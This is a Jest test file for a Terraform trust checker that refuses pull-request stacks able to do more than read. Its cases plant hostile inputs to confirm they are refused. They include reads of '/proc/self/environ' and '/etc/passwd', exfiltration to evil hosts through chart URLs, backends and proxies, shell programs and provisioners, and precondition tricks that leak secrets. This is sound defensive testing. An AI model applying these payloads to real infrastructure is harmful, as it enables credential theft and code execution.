import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { readSynthesized, type TerraformJson } from "../../../operations/synthesized";
import { baseStacks, foreignParts, trusted } from "../../../operations/terraform/trust";
import { RESOURCES } from "../../../operations/terraform/trust-kinds";
import type { StackId } from "../../../modules/contract/outputs";
import { CERTIFICATE } from "../../support/certificate";
import { EVERYTHING, minimal, scenario, scenarioNames, synthesize as templatesOf, writeSynthesized } from "../../support/project";

type Stack = Record<string, Record<string, Record<string, Record<string, unknown>>>>;
const ACCOUNT = 'account: "111122223333"\n';
const base = templatesOf(minimal(ACCOUNT)).stacks;
const copy = (template: TerraformJson) => JSON.parse(JSON.stringify(template)) as TerraformJson & Stack;
const first = (named: Record<string, Record<string, unknown>>) => Object.values(named)[0]!;
const parts = (name: StackId, change: (template: Stack) => void): string => {
  const template = copy(base[name]);
  change(template);
  return foreignParts(name, template, base[name]).join("\n");
};
const GUEST = `name: ci-guest
region: eu-west-1
github: {organization: acme, secret: s, server: {url: "https://github.acme.example", certificate: ${JSON.stringify(CERTIFICATE)}}}
cluster: {mode: existing, name: platform, supportNodes: {securityGroupId: sg-0123456789abcdef0}}
addons: {summerwind: install}
network: {mode: existing, vpcId: vpc-0123456789abcdef0, privateSubnetIds: [subnet-0123456789abcdef0, subnet-0123456789abcdef1]}
`;
const EVERY = [...scenarioNames.map((name) => scenario(name).stacks), templatesOf(EVERYTHING).stacks, templatesOf(GUEST).stacks];

test("everything that the project itself writes is taken, against itself as base", () => {
  for (const stacks of EVERY) {
    for (const [name, template] of Object.entries(stacks)) expect([name, foreignParts(name as StackId, template, template)]).toEqual([name, []]);
  }
});

test("the list of resource types and arguments is what the project writes, no more", () => {
  const written: Record<string, Set<string>> = {};
  for (const { resource = {} } of EVERY.flatMap((stacks) => Object.values(stacks))) {
    for (const [type, named] of Object.entries(resource)) {
      for (const body of Object.values(named)) Object.keys(body).forEach((key) => (written[type] ??= new Set()).add(key));
    }
  }
  const listed = Object.fromEntries(Object.entries(RESOURCES).map(([type, keys]) => [type, [...keys].sort()]));
  const used = Object.entries(written).map(([type, keys]) => [type, [...keys].filter((key) => key !== "//" && key !== "depends_on").sort()]);
  expect(Object.fromEntries(used)).toEqual(listed);
});

test.each<[string, string, StackId]>([
  ["another size, another idle time", "fleets: [{name: main, nodes: {idleAfter: 1h}, runners: [{cpu: 8, memory: 32Gi, max: 3}]}]", "dagger"],
  ["one fleet more", "fleets: [{name: main, runners: [{cpu: 2, memory: 8Gi, max: 1}]}, {name: blue, runners: [{cpu: 2, memory: 8Gi, max: 1}]}]", "dagger"],
  ["a persistent fleet", "fleets: [{name: warm, nodes: {mode: persistent, instanceType: m6id.4xlarge, count: 1}, runners: [{cpu: 2, memory: 8Gi, max: 1}]}]", "dagger"],
  ["a new chart version", "versions: {karpenter: 1.14.9}", "addons"],
  ["NAT for each zone", "network: {nat: per-az, flowLogs: all}", "network"],
  ["administrators and protection", 'cluster: {deletionProtection: false, admins: ["arn:aws:iam::111122223333:role/x"]}', "cluster"],
])("what a pull request may well change is planned: %s", (_name, yaml, stack) => {
  expect(foreignParts(stack, templatesOf(minimal(ACCOUNT + yaml)).stacks[stack], base[stack])).toEqual([]);
});

const FILE = '${file("/proc/self/environ")}';
const exec = (t: Stack) => (t.provider as unknown as { kubernetes: { exec: Record<string, unknown>[] }[] }).kubernetes[0]!.exec[0]!;
const aws = (t: Stack) => (t.provider as unknown as { aws: Record<string, unknown>[] }).aws[0]!;
const secret = (t: Stack) => first(t.resource!.kubernetes_secret_v1!);
const release = (t: Stack) => first(t.resource!.helm_release!);
/** Where the first secret and the first release of the dagger stack stand. */
const SECRET = "resource.kubernetes_secret_v1.main_github-secret_25CC8BE6";
const RELEASE = "resource.helm_release.main_2c-8g_ADD7E1A0";
const ofSecret = "ephemeral.aws_secretsmanager_secret_version.github.secret_string";

test.each<[string, (t: Stack) => void, string]>([
  ["a file in an output", (t) => (t.output!.x = { value: FILE } as never), "output.x\noutput: function file"],
  ["a file in an output of the project", (t) => (t.output!.runs_on = { value: FILE } as never), "output: function file"],
  ["a file in the name of a tag", (t) => (secret(t).metadata = { labels: { [FILE]: "x" } }), "resource: function file"],
  ["a file in a text of a chart's values", (t) => (release(t).values = [`{"a":"${FILE.replaceAll('"', '\\"')}"}`]), "resource: function file"],
  ["a file in a text inside an expression", (t) => (secret(t).type = '${element([" ${file("/etc/passwd")} "], 0)}'), "resource: expression \" ${file(\""],
  ["a directive", (t) => (secret(t).type = '%{ if true }${file("x")}%{ endif }'), "resource: expression %{ if true }${file(\"x\")}%{ endif }"],
  ["a sign that is escaped twice", (t) => (secret(t).type = '$$${file("x")}'), "resource: expression $$${file(\"x\")}"],
  ["a template file", (t) => (secret(t).type = '${templatefile("/etc/passwd", {})}'), "resource: function templatefile"],
  ["whether a file exists", (t) => (secret(t).type = '${fileexists("/root/.aws")}'), "resource: function fileexists"],
  ["a secret made public", (t) => (t.output!.runs_on = { value: `\${nonsensitive(${ofSecret})}` } as never), "output: function nonsensitive\noutput: an expression on a secret that is not the base's"],
  ["a function of a provider", (t) => (secret(t).type = '${provider::aws::arn_parse("x")}'), "resource: expression ::"],
  ["where Terraform runs", (t) => (secret(t).type = "${path.cwd}"), "resource: reference to path"],
  ["a variable", (t) => (secret(t).type = "${var.x}"), "resource: reference to var"],
  ["another chart repository, with a file in its address", (t) => (t.resource!.helm_release!.x = { name: "x", chart: "x", repository: `https://evil/${FILE}` }), "resource.helm_release.x: chart x of https://evil/${file(\"/proc/self/environ\")}\nresource.helm_release.x.version\nresource: function file"],
  ["a known chart from elsewhere", (t) => (release(t).repository = "oci://evil.example"), `${RELEASE}: chart gha-runner-scale-set of oci://evil.example`],
  ["a chart of the runner's disk", (t) => (release(t).chart = "./evil"), `${RELEASE}: chart ./evil of oci://ghcr.io/actions/actions-runner-controller-charts`],
  ["a version that is no version", (t) => (release(t).version = "../../evil"), `${RELEASE}.version`],
  ["credentials for a registry", (t) => (release(t).repository_username = "x"), `${RELEASE}.repository_username`],
  ["a program that renders charts", (t) => (release(t).postrender = {}), `${RELEASE}.postrender`],
  ["a chart that is rendered for a lookup", (t) => (t.data!.helm_template = { evil: { name: "x", chart: "https://evil.example/x.tgz" } }), "data.helm_template.evil: not the base's"],
  ["a program that a lookup runs", (t) => (t.data!.external = { x: { program: ["sh"] } }), "data.external.x: not the base's"],
  ["a page that a lookup reads", (t) => (t.data!.http = { x: { url: "https://evil" } }), "data.http.x: not the base's"],
  ["a lookup in another cluster", (t) => (t.data!.aws_eks_cluster = { x: { name: "payroll" } }), "data.aws_eks_cluster.x: not the base's"],
  ["another state", (t) => ((t.data!.terraform_remote_state!.cluster!.config as Record<string, unknown>).path = "x"), "data.terraform_remote_state.cluster: not the base's"],
  ["exec with another profile and a configuration of its own", (t) => Object.assign(exec(t), { args: ["eks", "get-token", "--profile", "evil"], env: { AWS_CONFIG_FILE: "../../../locks/x" } }), "provider: not the base's"],
  ["exec with another endpoint", (t) => (exec(t).args = ["eks", "get-token", "--endpoint-url", "https://evil"]), "provider: not the base's"],
  ["another program", (t) => (exec(t).command = "sh"), "provider: not the base's"],
  ["another cluster's address", (t) => ((t.provider as unknown as { kubernetes: Record<string, unknown>[] }).kubernetes[0]!.host = "https://evil"), "provider: not the base's"],
  ["a profile", (t) => (aws(t).profile = "evil"), "provider: not the base's"],
  ["another endpoint of AWS", (t) => (aws(t).endpoints = [{ sts: "https://evil" }]), "provider: not the base's"],
  ["a proxy of AWS", (t) => (aws(t).http_proxy = "https://evil"), "provider: not the base's"],
  ["another secret", (t) => (t.ephemeral!.aws_ssm_parameter = { x: { arn: "arn:aws:ssm:eu-west-1:111122223333:parameter/prod" } }), "ephemeral.aws_ssm_parameter.x: not the base's"],
  ["the same secret under another name", (t) => (t.ephemeral!.aws_secretsmanager_secret_version!.github!.secret_id = "prod"), "ephemeral.aws_secretsmanager_secret_version.github: not the base's"],
  ["a Lambda function that is invoked", (t) => (t.ephemeral!.aws_lambda_invocation = { x: { function_name: "f", payload: "{}" } }), "ephemeral.aws_lambda_invocation.x: not the base's"],
  ["a precondition that tells a secret bit by bit", (t) => (secret(t).lifecycle = { precondition: [{ condition: `\${startswith(${ofSecret}, "a")}`, error_message: "a" }] }), "resource: an expression on a secret that is not the base's"],
  ["another setting of a lifecycle", (t) => (secret(t).lifecycle = { action_trigger: [] }), `${SECRET}.lifecycle.action_trigger`],
  ["a postcondition that tells a secret", (t) => (secret(t).lifecycle = { postcondition: [{ condition: `\${startswith(${ofSecret}, "b")}`, error_message: "b" }] }), "resource: an expression on a secret that is not the base's"],
  ["a program when something is forgotten", (t) => (t.removed = [{ from: "aws_x.a", lifecycle: { destroy: false }, provisioner: [] }] as never), "removed[0]"],
  ["something that is destroyed by a block of its own", (t) => (t.removed = [{ from: "aws_x.a", lifecycle: { destroy: true } }] as never), "removed[0]"],
  ["a resource that reads a file", (t) => (t.resource!.aws_s3_object = { x: { bucket: "b", key: "k", source: "/proc/self/environ" } }), "resource.aws_s3_object.x"],
  ["a type that nobody knows", (t) => (t.resource!.null_resource = { x: {} }), "resource.null_resource.x"],
  ["a provisioner", (t) => (secret(t).provisioner = [{ "local-exec": { command: "id" } }]), `${SECRET}.provisioner`],
  ["a connection", (t) => (secret(t).connection = { host: "evil" }), `${SECRET}.connection`],
  ["a count", (t) => (secret(t).count = 0), `${SECRET}.count`],
  ["another provider for one resource", (t) => (secret(t).provider = "kubernetes.evil"), `${SECRET}.provider`],
  ["a resource that is written twice", (t) => (t.resource!.kubernetes_secret_v1!.x = [{}, {}] as never), "resource.kubernetes_secret_v1.x"],
  ["a list of blocks", (t) => ((t as Record<string, unknown>).resource = [{ aws_s3_object: { x: {} } }]), "resource.0.aws_s3_object"],
  ["a manifest of another kind", (t) => (t.resource!.kubernetes_manifest!.x = { manifest: { apiVersion: "v1", kind: "Secret", metadata: { name: "x" } } }), "resource.kubernetes_manifest.x: kind Secret"],
  ["manifests out of a text", (t) => (t.resource!.kubernetes_manifest!.x = { for_each: { a: "kind: Secret" }, manifest: "${yamldecode(each.value)}" }), "resource.kubernetes_manifest.x.for_each\nresource.kubernetes_manifest.x.manifest\nresource: function yamldecode\nresource: reference to each"],
  ["an output that is said not to be sensitive", (t) => (t.output!.runs_on = { value: "x", sensitive: false } as never), "output.runs_on.sensitive"],
  ["another backend", (t) => ((t.terraform as Record<string, unknown>).backend = { http: { address: "https://evil" } }), "terraform: not the base's"],
  ["another provider", (t) => ((t.terraform!.required_providers as Record<string, unknown>).x = { source: "evil/x" }), "terraform: not the base's"],
  ["another source of a known provider", (t) => ((t.terraform!.required_providers!.aws!).source = "evil/aws"), "terraform: not the base's"],
  ["a module", (t) => (t.module = { a: { source: "https://evil" } } as never), "block.module"],
  ["an import", (t) => (t.import = [{ to: "aws_vpc.x", id: "vpc-1" }] as never), "block.import"],
  ["a check", (t) => (t.check = {} as never), "block.check"],
  ["a file in a local value", (t) => (t.locals = { x: FILE } as never), "locals: function file"],
])("refused by name: %s", (_name, change, part) => {
  expect(parts("dagger", change)).toBe(part);
});

test("what differs from the base is named without its values", () => {
  expect(parts("dagger", (t) => (aws(t).region = "s3cret-value"))).toBe("provider: not the base's");
});

describe("on disk", () => {
  let outdir: string;
  const file = (name: string) => join(outdir, "stacks", name, "cdk.tf.json");
  beforeEach(() => {
    outdir = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
    writeSynthesized(minimal(), outdir);
  });
  afterEach(() => rmSync(outdir, { recursive: true }));
  const refusal = (...parts: string[]) => new Error(`not planned, because a plan could do more than read:\n${parts.join("\n")}`);
  const check = (...names: string[]) => trusted(outdir, readSynthesized(baseFolder), names);
  const baseFolder = mkdtempSync(join(tmpdir(), "dagger-on-eks-"));
  beforeAll(() => writeSynthesized(minimal(), baseFolder));
  afterAll(() => rmSync(baseFolder, { recursive: true }));

  test("files beside a stack, folders that are none of its, and a manifest that leads elsewhere", () => {
    expect(check().map(({ name }) => name)).toEqual(["network", "cluster", "addons", "dagger"]);
    writeFileSync(join(outdir, "manifest.json"), JSON.stringify({ stacks: { network: { synthesizedStackPath: "/proc/self/environ" } } }));
    expect(() => check()).not.toThrow();
    expect(readSynthesized(outdir).map(({ name }) => name)).toEqual(["network", "cluster", "addons", "dagger"]);
    writeFileSync(join(outdir, "stacks/network/more.tf"), "");
    mkdirSync(join(outdir, "stacks/evil"));
    expect(() => check()).toThrow(refusal("evil: not a stack of the base", "network: file more.tf"));
    expect(() => check("cluster", "payroll")).toThrow(refusal("payroll: not a stack of the base", "evil: not a stack of the base"));
  });

  test("what a fleet of the project's own brings is planned for the first time, too: seeds, warm runners", () => {
    const fleet = "{name: main, seed: {publish: true}, runners: [{cpu: 2, memory: 8Gi, max: 2, warm: [{during: daily 07:00-19:00 UTC, runners: 1}]}]}";
    rmSync(outdir, { recursive: true });
    writeSynthesized(minimal(`fleets: [${fleet}]`), outdir);
    expect(readdirSync(join(outdir, "stacks/dagger/charts")).sort()).toEqual(["cache-seed", "runner-images", "warm-clock"]);
    expect(check().map(({ name }) => name)).toEqual(["network", "cluster", "addons", "dagger"]);
    const file = join(outdir, "stacks/dagger/charts/cache-seed/templates/objects.yaml");
    writeFileSync(file, `${readFileSync(file, "utf8")}{{ lookup "v1" "Secret" "" "" | toYaml }}`);
    expect(() => check("dagger")).toThrow(refusal("dagger: file charts/cache-seed/templates/objects.yaml"));
  });

  test("a link in place of a stack is not followed, and what is no JSON is not shown", () => {
    writeFileSync(join(outdir, "token"), "s3cret-value");
    rmSync(file("network"));
    symlinkSync(join(outdir, "token"), file("network"));
    writeFileSync(file("cluster"), "s3cret-value");
    const unread = (name: string) => ["cdk.tf.json is no plain file with JSON", "terraform: not the base's", "provider: not the base's"].map((part) => `${name}: ${part}`);
    expect(() => check()).toThrow(refusal(...unread("network"), ...unread("cluster")));
  });

  test("Terraform reads what was checked: a block that is there twice is there once afterwards", () => {
    const text = readFileSync(file("network"), "utf8");
    writeFileSync(file("network"), text.replace(/^\{/, `{"output": {"evil": {"value": ${JSON.stringify(FILE)}}},`));
    check("network");
    expect(readFileSync(file("network"), "utf8")).not.toContain("/proc/self/environ");
  });

  test.each<[string, string, string | ((text: string) => string)]>([
    ["another template", "templates/crds.yaml", (text) => `${text}{{ lookup "v1" "Secret" "" "" | toYaml }}`],
    ["a template more", "templates/more.yaml", ""],
    ["a chart that is brought along", "charts/gha-runner-scale-set-controller-0.14.2.tgz", "x"],
    ["a chart from the disk", "Chart.yaml", (text) => text.replace(/"oci:[^"]*"/, '"file:///"')],
    ["a chart from elsewhere", "Chart.yaml", (text) => text.replace(/"oci:[^"]*"/, '"oci://evil.example"')],
    ["another dependency more", "Chart.yaml", (text) => text.replace('"dependencies": [', '"dependencies": [{"name": "x"},')],
    ["metadata that nobody can read", "Chart.yaml", "["],
  ])("refused in the chart around ARC's: %s", (_name, path, change) => {
    const changed = join(outdir, "stacks/addons/charts/gha-runner-scale-set-controller", path);
    mkdirSync(dirname(changed), { recursive: true });
    writeFileSync(changed, typeof change === "string" ? change : change(readFileSync(changed, "utf8")));
    // Without metadata to trust, nobody knows which templates belong to the chart.
    const files = path === "Chart.yaml" ? [path, "templates/crds.yaml"] : [path];
    expect(() => check("addons")).toThrow(refusal(...files.map((file) => `addons: file charts/gha-runner-scale-set-controller/${file}`)));
  });

  test("without a base nothing is planned", async () => {
    const none = join(outdir, "none");
    const without = (cause: string) =>
      new Error(
        "not planned, because there is nothing that the stacks could be compared with: pass --base <folder> with the\n" +
          `synthesised stacks of the branch that is trusted (${cause})`,
      );
    await expect(baseStacks(none, () => Promise.resolve(""))).rejects.toThrow(without(`ENOENT: no such file or directory, open '${none}/manifest.json'`));
    await expect(baseStacks(undefined, () => Promise.reject(new Error("dagger-ci.yaml: 1 problem")))).rejects.toThrow(without("dagger-ci.yaml: 1 problem"));
  });
});
